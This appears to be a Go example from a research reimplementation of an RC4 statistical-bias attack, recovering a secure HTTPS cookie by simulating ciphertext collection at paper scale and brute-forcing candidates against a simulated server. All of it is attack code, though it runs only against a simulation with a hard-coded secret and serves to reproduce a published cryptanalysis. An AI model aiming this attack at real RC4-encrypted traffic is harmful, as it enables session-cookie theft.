// HTTPS cookie example: the §6 attack in miniature — craft the Listing-3
// aligned request, collect ciphertext statistics at paper scale in model
// mode (sufficient-statistic sampling is O(1) in the ciphertext count),
// generate the charset-restricted candidate list, and brute-force the
// secure cookie against the simulated server. It exits 1 when the cookie
// is not in the walked list.
package main

import (
	"errors"
	"fmt"
	"os"

	"rc4break/internal/job"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
)

func main() {
	const secret = "S3cretAuthToken/"

	_, req, err := job.CookieLayout(secret)
	if err != nil {
		panic(err)
	}
	fmt.Printf("aligned request: cookie at offset %d, %d bytes total\n",
		req.CookieOffset(), len(req.Marshal()))
	rt, err := job.New(job.Spec{Attack: "cookie", Mode: "model", Seed: 9, Secret: secret}, nil)
	if err != nil {
		panic(err)
	}

	// 9·2^27 ciphertexts is the paper's operating point, where a 2^23-deep
	// list succeeds over 94% of the time. This example walks 2^18
	// candidates, which recovered the cookie in 12 of 16 seeds (1-16,
	// seed 9 among them) at ~0.45 s per run.
	const ciphertexts, depth = 9 << 27, 1 << 18
	fmt.Printf("collecting %d ciphertext copies (~%.0f hours of live traffic at %d req/s)...\n",
		uint64(ciphertexts), float64(ciphertexts)/netsim.HTTPSRequestsPerSecond/3600,
		netsim.HTTPSRequestsPerSecond)
	fmt.Printf("brute-forcing up to %d candidates against the server...\n", depth)
	res, err := online.Run(online.Config{
		Decoder:       rt.Decoder,
		Oracle:        rt.Oracle,
		Cadence:       online.Cadence{First: ciphertexts},
		Budget:        ciphertexts,
		MaxCandidates: depth,
		Feed:          online.FeedFunc(rt.CaptureTo),
	})
	if errors.Is(err, online.ErrBudgetExhausted) {
		fmt.Println("cookie not found this run: not among the walked candidates")
		os.Exit(1)
	}
	if err != nil {
		panic(err)
	}
	fmt.Printf("recovered cookie %q at candidate rank %d after %d server checks\n",
		res.Plaintext, res.Rank, res.Checks)
	fmt.Printf("(%d checks take %.1f s at the paper's %d tests/s)\n",
		res.Checks, float64(res.Checks)/netsim.BruteForceTestsPerSecond,
		netsim.BruteForceTestsPerSecond)
}
